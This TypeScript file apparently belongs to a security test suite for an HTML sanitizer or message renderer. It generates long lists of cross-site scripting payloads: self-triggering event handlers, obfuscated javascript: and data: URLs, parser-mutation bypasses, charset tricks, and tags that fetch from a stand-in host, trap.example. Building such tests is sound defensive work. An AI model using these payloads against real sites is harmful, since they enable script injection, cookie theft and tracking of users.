/** Script in every place where browsers have ever run it, and what mutates into one. */
import { htmlMessage, proof, trapUrl, type Attack } from './attack.ts'

/** Handlers that start by themselves, each on the element that starts it. */
const handlers: readonly (readonly [tag: string, event: string, more?: string])[] = [
  ['img', 'onerror', 'src=x:x'],
  ['img', 'onload', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="'],
  ['img', 'onloadstart', 'src=x:x'],
  ['image', 'onerror', 'src=x:x'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onresize'],
  ['body', 'onhashchange'],
  ['body', 'onfocus'],
  ['html', 'onload'],
  ['svg', 'onload'],
  ['svg', 'onfocusin', 'tabindex=1 autofocus'],
  ['iframe', 'onload'],
  ['object', 'onerror', 'data=x:x'],
  ['embed', 'onload', 'src=about:blank'],
  ['link', 'onload', 'rel=stylesheet href="data:text/css,"'],
  ['link', 'onerror', 'rel=stylesheet href=x:x'],
  ['style', 'onload'],
  ['style', 'onerror'],
  ['script', 'onerror', 'src=x:x'],
  ['script', 'onload', 'src="data:text/javascript,"'],
  ['video', 'onerror', 'src=x:x'],
  ['video', 'onloadstart', 'src=x:x'],
  ['video', 'oncanplay', 'autoplay'],
  ['video', 'onplay', 'autoplay'],
  ['audio', 'onerror', 'src=x:x'],
  ['audio', 'onloadstart', 'src=x:x'],
  ['source', 'onerror', 'src=x:x'],
  ['track', 'onerror', 'src=x:x default'],
  ['input', 'onfocus', 'autofocus'],
  ['input', 'onblur', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['button', 'onfocus', 'autofocus'],
  ['keygen', 'onfocus', 'autofocus'],
  ['a', 'onfocus', 'tabindex=0 autofocus href=#'],
  ['div', 'onfocus', 'tabindex=0 autofocus contenteditable'],
  ['div', 'onscroll', 'style="overflow:scroll;height:1px"'],
  ['div', 'onanimationstart', 'style="animation:x 1s"'],
  ['div', 'onanimationend', 'style="animation:x 1ms"'],
  ['div', 'ontransitionend', 'style="transition:all 1ms;opacity:.9"'],
  ['div', 'onbeforetoggle', 'popover'],
  ['div', 'onpointerrawupdate'],
  ['div', 'oncontentvisibilityautostatechange', 'style="content-visibility:auto"'],
  ['details', 'ontoggle', 'open'],
  ['dialog', 'oncancel', 'open'],
  ['marquee', 'onstart'],
  ['marquee', 'onfinish', 'loop=1'],
  ['marquee', 'onbounce', 'behavior=alternate'],
  ['isindex', 'onfocus', 'autofocus'],
  ['frameset', 'onload'],
  ['table', 'onbeforescriptexecute'],
  ['portal', 'onload', 'src=about:blank'],
  ['fencedframe', 'onload'],
  ['picture', 'onerror'],
  ['meter', 'onmouseover', 'style="position:fixed;inset:0"'],
  ['a', 'onmouseover', 'style="position:fixed;inset:0;display:block"'],
  ['math', 'onload'],
  ['bgsound', 'onpropertychange'],
  ['custom-element', 'onconnected'],
]

/** Addresses that are script, as they are written to slip by. */
const scriptUrls = (script: string): readonly string[] => [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `java&#10;script:${script}`,
  `java&Tab;script:${script}`,
  `&#1;javascript:${script}`,
  `&#x6A;avascript&colon;${script}`,
  ` javascript:${script}`,
  `javascript&#58;${script}`,
  `javascript://%0a${script}`,
  `vbscript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${script}"/>`,
  `blob:https://localhost/x`,
  `view-source:javascript:${script}`,
]

/** Where an address is followed without being asked. */
const places = (url: string): readonly string[] => [
  `<iframe src="${url}"></iframe>`,
  `<img src="${url}">`,
  `<object data="${url}"></object>`,
  `<embed src="${url}">`,
  `<meta http-equiv="refresh" content="0;url=${url}">`,
  `<form action="${url}"><input autofocus type=submit></form>`,
  `<svg><use href="${url}"></use><a xlink:href="${url}"><text>x</text></a></svg>`,
  `<a href="${url}">x</a>`,
]

export function handlerAttacks(): readonly Attack[] {
  return handlers.map(([tag, event, more = '']) => {
    const name = `handler ${tag} ${event}`
    return htmlMessage(name, `<${tag} ${more} ${event}="${proof(name)}">x</${tag}>`)
  })
}

export function urlAttacks(): readonly Attack[] {
  return scriptUrls('0').flatMap((_, at) => {
    const name = `address ${at}`
    const url = (scriptUrls(proof(name).replaceAll("'", '&#39;'))[at] ?? '').replaceAll(
      '"',
      '&quot;',
    )
    return [
      htmlMessage(name, places(url).join('\n')),
      htmlMessage(`${name} alone`, `<base href="${url}"><a href="x">y</a><iframe src="${url}">`),
    ]
  })
}

/** What is harmless to a cleaner that reads it once, and not to a browser that reads it twice. */
const mutations = (run: string): readonly string[] => [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/x>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<script\0>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type=module>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<noscript><p title="</noscript><img src=x onerror=&quot;${run}&quot;>">`,
  `<noembed><p title="</noembed><img src=x onerror=&quot;${run}&quot;>">`,
  `<xmp><p title="</xmp><img src=x onerror=&quot;${run}&quot;>">`,
  `<iframe><p title="</iframe><img src=x onerror=&quot;${run}&quot;>">`,
  `<title><p title="</title><img src=x onerror=&quot;${run}&quot;>">`,
  `<textarea><p title="</textarea><img src=x onerror=&quot;${run}&quot;>">`,
  `<style><p title="</style><img src=x onerror=&quot;${run}&quot;>">`,
  `<plaintext><img src=x onerror="${run}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;${run}&quot;&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=&quot;${run}&quot;>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math>`,
  `<svg><foreignObject><style><img src=x onerror="${run}"></style></foreignObject></svg>`,
  `<svg><desc><style><img src=x onerror="${run}"></style></desc></svg>`,
  `<svg><title><style><img src=x onerror="${run}"></style></title></svg>`,
  `<table><td><svg><style><td></style><img src=x onerror="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><set onbegin="${run}" attributeName=x to=1>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  `<svg><set attributeName="href" to="javascript:${run}"><a><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
  `<template><script>${run}</script></template><div><template shadowrootmode=open><script>${run}</script></template></div>`,
  `<div><template shadowrootmode=open><img src=x onerror="${run}"></template></div>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=&quot;${run}&quot;>">`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=&quot;${run}&quot;&gt;"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<object type="text/x-scriptlet" data="https://trap.example/x"></object>`,
  `<applet code=x archive="https://trap.example/x.jar"></applet>`,
  `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload='${run}'/>">`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<!--><img src=x onerror="${run}">-->`,
  `<!--!><img src=x onerror="${run}">-->`,
  `<!-- --!><img src=x onerror="${run}"> -->`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<?xml-stylesheet href="javascript:${run}"?><?php <img src=x onerror="${run}">?>`,
  `<a/onmouseover="${run}"style=position:fixed;inset:0>x`,
  `<img/src="x"/onerror="${run}">`,
  `<img """><script>${run}</script>">`,
  `<img src=\`x\` onerror=\`${run}\`>`,
  `<img src='x'onerror='${run.replaceAll("'", '&#39;')}'>`,
  `<img src=x onerror\n=\n"${run}">`,
  `<img src=x \u000conerror="${run}">`,
  `<div id="x" style="x:expression(${run})">`,
  `<div style="-moz-binding:url(data:text/xml,x)">`,
  `<div style="behavior:url(#default#time2)">`,
  `<xml id=x><a><b><script>${run}</script></b></a></xml>`,
  `<form id=x></form><button form=x formaction="javascript:${run}" autofocus>x</button>`,
  `<form name=document><input name=cookie></form><form id=attributes><input name=nodeName>`,
  `<form id=x><input name=attributes><input name=removeChild><img src=x onerror="${run}"></form>`,
  `<a id=tamar><a id=tamar name=config href="javascript:${run}">`,
  `<img name=getElementById><img name=createElement><img name=body><img name=defaultView>`,
  `<input type=image src="https://trap.example/i" onerror="${run}">`,
  `<button popovertarget=x>y</button><div popover id=x onbeforetoggle="${run}">z</div>`,
  `<button commandfor=x command="show-modal">y</button><dialog id=x onopen="${run}">z</dialog>`,
  `<x onclick="${run}" style="position:fixed;inset:0" tabindex=0 autofocus accesskey=x>`,
  `<a href="https://x.example" target="_top" onclick="${run}">x</a>`,
  `<a href="#" target="top">x</a><base target="_top"><base href="https://trap.example/">`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u2028<script>${run}</script>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
]

export function mutationAttacks(): readonly Attack[] {
  return mutations('0').map((_, at) => {
    const name = `mutation ${at}`
    return htmlMessage(name, mutations(proof(name).replaceAll('"', '&quot;'))[at] ?? '')
  })
}

/** Octets that mean `<` to somebody. */
export function charsetAttacks(): readonly Attack[] {
  const html = (name: string) => `<p>${name}</p><script>${proof(name)}</script>`
  return [
    'utf-7',
    'utf-16le',
    'iso-2022-jp',
    'hz-gb-2312',
    'big5',
    'x-user-defined',
    'nonsense',
  ].map((charset) => htmlMessage(`charset ${charset}`, html(`charset ${charset}`), charset))
}

/** What asks somebody else for something as soon as it is shown. */
const fetches = (url: string): readonly string[] => [
  `<img src="${url}">`,
  `<img srcset="${url} 1x, ${url}2 2x">`,
  `<img src="//trap.example/x">`,
  `<img src="\\\\trap.example\\x">`,
  `<img src="ht&#10;tps://trap.example/x">`,
  `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
  `<picture><source srcset="${url}"><img></picture>`,
  `<video poster="${url}" src="${url}" autoplay></video>`,
  `<audio src="${url}" autoplay preload=auto></audio>`,
  `<video><source src="${url}"><track src="${url}" default></video>`,
  `<body background="${url}">`,
  `<table background="${url}"><td background="${url}">x</table>`,
  `<link rel=stylesheet href="${url}">`,
  `<link rel=preload as=image href="${url}">`,
  `<link rel=prefetch href="${url}"><link rel=prerender href="${url}">`,
  `<link rel=dns-prefetch href="${url}"><link rel=preconnect href="${url}">`,
  `<link rel=icon href="${url}"><link rel=manifest href="${url}">`,
  `<link rel=modulepreload href="${url}"><link rel=import href="${url}">`,
  `<script type=speculationrules>{"prerender":[{"source":"list","urls":["${url}"]}]}</script>`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<meta http-equiv=link content="<${url}>; rel=preload; as=image">`,
  `<meta http-equiv=x-dns-prefetch-control content=on><a href="${url}">x</a>`,
  `<meta http-equiv=content-security-policy content="report-uri ${url}">`,
  `<iframe src="${url}"></iframe>`,
  `<object data="${url}"></object><embed src="${url}">`,
  `<input type=image src="${url}">`,
  `<svg><image href="${url}"/><use href="${url}#x"/><feImage href="${url}"/></svg>`,
  `<svg><style>@import "${url}";</style></svg>`,
  `<math><mglyph src="${url}"/></math>`,
  `<a href="https://x.example" ping="${url}">x</a>`,
  `<bgsound src="${url}"><html manifest="${url}">`,
  `<form action="${url}"><input autofocus></form>`,
  `<base href="https://trap.example/"><img src=x><a href=y>z</a>`,
  `<base href="https://trap.example/"><link rel=stylesheet href=x>`,
  `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  `<xml src="${url}"></xml><layer src="${url}"></layer>`,
  `<blockquote cite="${url}">x</blockquote><q cite="${url}">y</q>`,
  `<command icon="${url}"><menuitem icon="${url}">`,
  `<area href="${url}" ping="${url}" shape=default><img usemap=#x>`,
  `<div style="background:url(${url})">x</div>`,
]

export function fetchAttacks(): readonly Attack[] {
  return fetches('x').map((_, at) => {
    const name = `fetch ${at}`
    return htmlMessage(name, `<p>x</p>${fetches(trapUrl(name))[at] ?? ''}`)
  })
}
